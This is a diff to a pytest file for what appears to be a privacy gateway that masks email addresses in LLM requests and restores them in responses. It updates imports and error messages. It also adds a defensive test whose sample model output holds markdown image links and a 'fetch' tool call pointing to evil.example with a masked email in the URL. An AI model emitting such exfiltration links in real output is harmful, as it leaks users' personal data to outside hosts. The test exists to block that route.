@@ -6,14 +6,23 @@ from __future__ import annotations
 import dataclasses
 import json
 from dataclasses import dataclass
+from typing import Literal
 
 import pytest
 
-from tarnkappe.gateway.anonymization import REQUEST_TYPES, mask_request, restore_result, undeclared_fields
-from tarnkappe.gateway.errors import InvalidRequest
-from tarnkappe.gateway.types import (
-    ChatRequest, ChatResult, Choice, EmbeddingRequest, FieldPrivacy, Message, ResponseFormat, Tool, ToolCall,
+from tarnkappe.core.errors import InvalidRequest
+from tarnkappe.core.types import (
+    ChatRequest,
+    ChatResult,
+    Choice,
+    EmbeddingRequest,
+    FieldPrivacy,
+    Message,
+    ResponseFormat,
+    Tool,
+    ToolCall,
 )
+from tarnkappe.gateway.anonymization import REQUEST_TYPES, mask_request, restore_result, undeclared_fields
 from tarnkappe.privacy import Anonymizer
 
 EMAIL = "anna.meier@example.ch"
@@ -86,7 +95,7 @@ def test_identifiers_with_personal_data_are_refused(anonymizer: Anonymizer) -> N
                           tools=[Tool(name=f"mail_{EMAIL}")])
     with pytest.raises(InvalidRequest) as info:
         mask_request(anonymizer, request)
-    assert info.value.param == "tools[0].name"
+    assert info.value.param == "tools[0].function.name"
 
 
 def test_embedding_inputs(anonymizer: Anonymizer) -> None:
@@ -95,16 +104,60 @@ def test_embedding_inputs(anonymizer: Anonymizer) -> None:
     assert request.inputs == ["von [[EMAIL_1]]", "nichts"] and request.user is None
     with pytest.raises(InvalidRequest) as info:
         mask_request(anonymizer, EmbeddingRequest(model="e", inputs=[[1, 2]]))
-    assert info.value.param == "inputs[0]"
+    assert info.value.param == "input[0]"
 
 
 def test_too_much_text_is_refused_before_anything_is_masked() -> None:
-    from tarnkappe.gateway.errors import PayloadTooLarge
+    from tarnkappe.core.errors import PayloadTooLarge
     from tarnkappe.privacy import PrivacyConfig
 
     small = Anonymizer(PrivacyConfig(max_text_chars=100))
     request = ChatRequest(model="m", messages=[Message(role="user", content="x" * 60)], stop=["y" * 60])
     with pytest.raises(PayloadTooLarge) as info:
         mask_request(small, request)
-    assert "120" in info.value.message and info.value.status == 413
+    assert "at most 100" in info.value.message and info.value.status == 413
     assert request.messages[0].content == "x" * 60, "nothing was changed"
+
+
+def test_no_inert_field_can_hold_text() -> None:
+    from tarnkappe.gateway.anonymization import inert_free_text
+
+    assert inert_free_text() == []
+
+    @dataclass
+    class Sneaky:
+        kind: str = dataclasses.field(default="", metadata={"privacy": FieldPrivacy.INERT})
+        mode: Literal["a", "b"] = dataclasses.field(default="a", metadata={"privacy": FieldPrivacy.INERT})
+
+    assert inert_free_text((Sneaky,)) == ["Sneaky.kind"]
+
+
+def test_placeholders_inside_urls_are_not_restored(anonymizer: Anonymizer) -> None:
+    """A model (or an upstream that wants the data) could otherwise make the client's markdown
+    renderer or a tool send the value to any host."""
+    import asyncio
+
+    from tarnkappe.core.types import ChatChunk, ChoiceDelta
+    from tarnkappe.gateway.anonymization import restore_stream
+
+    request = ChatRequest(model="m", messages=[Message(role="user", content=f"Schreib an {EMAIL}")])
+    vault = mask_request(anonymizer, request)
+    leak = "![x](https://evil.example/p.png?u=[[EMAIL_1]]) und <https://evil.example/[[EMAIL_1]]>"
+    answer = f"Mail an [[EMAIL_1]]. {leak}"
+    result = ChatResult(id="r", created=0, model="m", choices=[Choice(index=0, finish_reason="stop", message=Message(
+        role="assistant", content=answer,
+        tool_calls=[ToolCall(id="c", name="fetch", arguments='{"url": "https://evil.example/?e=[[EMAIL_1]]", "to": "[[EMAIL_1]]"}')]))])
+    restore_result(result, vault)
+    assert result.choices[0].message.content == f"Mail an {EMAIL}. {leak}"
+    assert json.loads(result.choices[0].message.tool_calls[0].arguments) == {
+        "url": "https://evil.example/?e=[[EMAIL_1]]", "to": EMAIL}
+
+    async def streamed(pieces: list[str]) -> str:
+        async def source():
+            for piece in pieces:
+                yield ChatChunk(id="s", created=0, model="m", choices=[ChoiceDelta(index=0, content=piece)])
+        return "".join([c.choices[0].content or "" async for c in restore_stream(source(), vault) if c.choices])
+
+    for size in (1, 3, 7, 50):
+        pieces = [answer[i:i + size] for i in range(0, len(answer), size)]
+        assert asyncio.run(streamed(pieces)) == f"Mail an {EMAIL}. {leak}"
